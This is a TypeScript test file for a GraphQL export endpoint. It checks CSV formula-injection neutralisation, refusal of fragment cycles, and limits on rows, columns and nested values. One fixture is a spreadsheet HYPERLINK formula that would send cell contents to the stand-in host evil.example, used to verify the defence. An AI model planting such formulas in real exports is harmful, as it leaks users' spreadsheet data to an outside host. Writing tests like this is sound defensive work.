// POST /export is bounded: CSV cells that a spreadsheet would run as formulas are neutralised, a
// fragment cycle is a validation error (it was a stack overflow), and rows, columns and the values
// nested lists multiply into are limited, refused before the stream when the query tells, else cut.
import type { AddressInfo } from 'node:net';
import { parse as parseCsv } from 'csv-parse/sync';
import express from 'express';
import type { GraphQLSchema } from 'graphql';
import { toGlobalId } from '../../src/common/global-id';
import { loadConfig } from '../../src/config';
import {
  csvRow,
  DEFAULT_EXPORT_LIMITS,
  type ExportLimits,
  flattenNode,
  neutraliseFormula,
  planExport,
} from '../../src/export/export-query';
import { createExportRouter } from '../../src/export/export.router';
import { createSchema } from '../../src/schema';
import { generateCorpus } from '../bench/generate-corpus';
import { createTestDatabase, type TestDatabase } from '../setup/test-database';

const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';

describe('CSV cells', () => {
  test.each([
    [HYPERLINK, `'${HYPERLINK}`],
    ['+1-555-0100', "'+1-555-0100"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['Kyiv = capital', 'Kyiv = capital'],
    ['', ''],
  ])('neutraliseFormula(%j) is %j', (text, expected) => {
    expect(neutraliseFormula(text)).toBe(expected);
  });

  test('a CSV row neutralises text cells and leaves cells of numbers alone; NDJSON rows stay raw', () => {
    const node = { title: HYPERLINK, rank: -1.5, scores: [-1, 2], labels: ['-x', 'y'], note: null };
    const columns = ['title', 'rank', 'scores', 'labels', 'note'];
    expect(csvRow(node, columns)).toEqual([`'${HYPERLINK}`, '-1.5', '-1;2', "'-x;y", '']);
    expect(flattenNode(node, columns)).toEqual([HYPERLINK, '-1.5', '-1;2', '-x;y', '']);
  });

  test('a row past the values a cell or a row may hold is refused, naming the column', () => {
    const node = { a: { list: Array.from({ length: 5 }, (_, i) => ({ v: i })) }, b: [1, 2, 3] };
    const limits = { maxCellValues: 4, maxRowValues: 100 };
    expect(() => flattenNode(node, ['a.list.v'], limits)).toThrow(
      'the column a.list.v joins more than 4 values in one row: ask for fewer with first',
    );
    expect(flattenNode(node, ['b'], limits)).toEqual(['1;2;3']);
    expect(() => flattenNode(node, ['b', 'b'], { maxCellValues: 4, maxRowValues: 5 })).toThrow(
      'a row holds more than 5 values: select fewer fields or ask for fewer with first',
    );
  });
});

describe('planExport', () => {
  let schema: GraphQLSchema;
  const limits = (overrides: Partial<ExportLimits>) => ({ limits: { ...DEFAULT_EXPORT_LIMITS, ...overrides } });

  beforeAll(async () => {
    schema = await createSchema();
  });

  test('the defaults are a million rows, 200 columns, 1,000 values a cell, 10,000 a row, 200,000 a page', () => {
    expect(DEFAULT_EXPORT_LIMITS).toEqual({
      maxRows: 1_000_000,
      maxColumns: 200,
      maxCellValues: 1_000,
      maxRowValues: 10_000,
      maxPageValues: 200_000,
    });
  });

  test('refuses nested connections that multiply past the values a cell may hold, naming the column', () => {
    const query = `{ actors { edges { node { name quotes(first: 40) { edges { node {
      article { quotes(first: 30) { edges { node { text } } } } } } } } } } }`;
    expect(() => planExport(schema, query, 500)).toThrow(
      expect.objectContaining({
        message:
          "the column quotes.edges.node.article.quotes.edges.node.text can join 1200 values a row (its connections' first multiplied); an export takes at most 1000: ask for fewer with first",
        extensions: { code: 'BAD_USER_INPUT', field: 'query' },
      }),
    );
    const fewer = planExport(schema, query.replace('first: 30', 'first: 25'), 500);
    expect(fewer.columns).toEqual(['name', 'quotes.edges.node.article.quotes.edges.node.text']);
  });

  test("takes a nested connection's first from the variables, else from its default", () => {
    const query = `query ($n: Int) { actors { edges { node { quotes(first: $n) { edges { node { text } } } } } } }`;
    expect(() => planExport(schema, query, 500, { ...limits({ maxCellValues: 10 }), variables: { n: 11 } })).toThrow(
      /can join 11 values/,
    );
    // Actor.quotes takes 50 when first is not given.
    expect(() => planExport(schema, query, 500, limits({ maxCellValues: 49 }))).toThrow(/can join 50 values/);
  });

  test('refuses more columns than the limit, and a row past the values it may hold', () => {
    const query = `{ quotes { edges { node { a: text b: text c: text d: text } } } }`;
    expect(() => planExport(schema, query, 500, limits({ maxColumns: 3 }))).toThrow(
      'query selects 4 fields under the node; an export takes at most 3',
    );
    const nested = `{ actors { edges { node { quotes(first: 20) { edges { node { text kind } } } } } } }`;
    expect(() => planExport(schema, nested, 500, limits({ maxRowValues: 39 }))).toThrow(/a row can hold 40 values/);
  });

  test('asks for fewer nodes a page when each node holds more values', () => {
    const query = `{ actors { edges { node { name quotes(first: 20) { edges { node { text } } } } } } }`;
    expect(planExport(schema, query, 500).pageSize).toBe(500);
    expect(planExport(schema, query, 500, limits({ maxPageValues: 1_000 })).pageSize).toBe(47); // 1000 / (1 + 20)
  });

  test('gives up on a fragment cycle instead of recursing until the stack overflows', () => {
    const query = `{ quotes { edges { node { ...A } } } }
      fragment A on Quote { text ...B }
      fragment B on Quote { kind ...A }`;
    expect(() => planExport(schema, query, 500)).toThrow(
      expect.objectContaining({ extensions: { code: 'BAD_USER_INPUT', field: 'query' } }),
    );
  });

  test('gives up on fragments that double at every level instead of expanding them all', () => {
    const levels = 40;
    const fragments = Array.from(
      { length: levels },
      (_, i) =>
        `fragment F${i} on Quote { text ${i + 1 < levels ? `...F${i + 1} a${i}: article { id } ...F${i + 1}` : ''} }`,
    );
    const query = `{ quotes { edges { node { ...F0 } } } } ${fragments.join(' ')}`;
    expect(() => planExport(schema, query, 500)).toThrow(
      'query selects too many fields for an export, fragments expanded: select fewer',
    );
  });
});

describe('POST /export with limits', () => {
  let database: TestDatabase;
  let server: import('node:http').Server;
  let baseUrl: string;
  const routerLimits: Partial<ExportLimits> = { maxRows: 25, maxCellValues: 5 };

  const post = (body: object) =>
    fetch(`${baseUrl}/export`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });

  beforeAll(async () => {
    database = await createTestDatabase();
    await generateCorpus(database.dataSource, { articles: 60, quotesPerArticle: 10 });
    const config = loadConfig({ SEED_EXAMPLE_CORPUS: 'false', MAX_PAGE_SIZE: '20' });
    const app = express().use(
      createExportRouter(await createSchema(), database.dataSource, config, { limits: routerLimits }),
    );
    server = app.listen(0, '127.0.0.1');
    await new Promise((resolve) => server.once('listening', resolve));
    baseUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });

  afterAll(async () => {
    await new Promise((resolve) => server.close(resolve));
    await database.drop();
  });

  test('writes a formula-like title with an apostrophe in CSV, and as it is in NDJSON, with no error line', async () => {
    const [[{ id, outlet_id: outletId }]] = await database.dataSource.query(
      `UPDATE articles SET title = $1 WHERE id = (SELECT id FROM articles ORDER BY published_at DESC, id DESC LIMIT 1) RETURNING id, outlet_id`,
      [HYPERLINK],
    );
    // One outlet's articles: fewer than the row limit.
    const query = `{ articles(filter: { outletIds: ["${toGlobalId('Outlet', outletId)}"] }) { edges { node { title } } } }`;
    const csv = parseCsv<Record<string, string>>(await (await post({ query, format: 'csv' })).text(), {
      columns: true,
    });
    const lines = (await (await post({ query, format: 'ndjson' })).text())
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(csv[0].title).toBe(`'${HYPERLINK}`);
    expect(lines[0].title).toBe(HYPERLINK);
    expect(lines).toHaveLength(csv.length);
    expect(lines.every((line) => typeof line.title === 'string')).toBe(true);
    await database.dataSource.query(`UPDATE articles SET title = 'Plain' WHERE id = $1`, [id]);
  });

  test('a fragment cycle is a 400 validation error, never INTERNAL', async () => {
    const response = await post({
      query: `{ quotes { edges { node { ...A } } } } fragment A on Quote { text ...B } fragment B on Quote { kind ...A }`,
    });
    expect(response.status).toBe(400);
    const body = (await response.json()) as { errors: { message: string; extensions: object }[] };
    expect(body.errors.map((e) => e.extensions)).toEqual([{ code: 'GRAPHQL_VALIDATION_FAILED' }]);
    expect(body.errors[0].message).toBe('Cannot spread fragment "A" within itself via "B".');
  });

  test('nested connections past the cell limit are refused with a 400 before anything is streamed', async () => {
    const response = await post({
      query: `{ articles { edges { node { title quotes(first: 6) { edges { node { text } } } } } } }`,
    });
    expect(response.status).toBe(400);
    expect(((await response.json()) as any).errors[0]).toEqual({
      message:
        "the column quotes.edges.node.text can join 6 values a row (its connections' first multiplied); an export takes at most 5: ask for fewer with first",
      extensions: { code: 'BAD_USER_INPUT', field: 'query' },
    });
  });

  test('NDJSON past the row limit ends, after the rows, with a line that says it was cut', async () => {
    const response = await post({ query: `{ quotes { edges { node { text } } } }`, format: 'ndjson' });
    expect(response.status).toBe(200);
    const lines = (await response.text())
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(lines).toHaveLength(26);
    expect(lines.slice(0, 25).every((line) => typeof line.text === 'string')).toBe(true);
    expect(lines[25]).toEqual({
      errors: [
        {
          message: 'the export stopped at its limit of 25 rows: narrow the query with a filter',
          extensions: { code: 'BAD_USER_INPUT', field: 'query' },
        },
      ],
    });
  });

  test('a CSV export past the row limit is cut short, so the client sees it incomplete', async () => {
    const response = await post({ query: `{ quotes { edges { node { text } } } }`, format: 'csv' });
    expect(response.status).toBe(200);
    await expect(response.text()).rejects.toThrow();
  });

  test('a plain list longer than the cell limit, met midway, cuts an NDJSON export with the reason', async () => {
    // The 22nd newest article, on the second page of 20, has more authors than a cell may join.
    await database.dataSource.query(
      `UPDATE articles SET authors = array_fill('A. Writer'::text, ARRAY[6]) WHERE id = (SELECT id FROM articles ORDER BY published_at DESC, id DESC OFFSET 21 LIMIT 1)`,
    );
    const response = await post({ query: `{ articles { edges { node { authors } } } }`, format: 'ndjson' });
    const lines = (await response.text())
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(lines.at(-1)).toEqual({
      errors: [
        {
          message: 'the column authors joins more than 5 values in one row: ask for fewer with first',
          extensions: { code: 'BAD_USER_INPUT', field: 'query' },
        },
      ],
    });
    // The first page's 20 rows, then the reason: the second page is turned into rows before any is written.
    expect(lines).toHaveLength(21);
  });
});
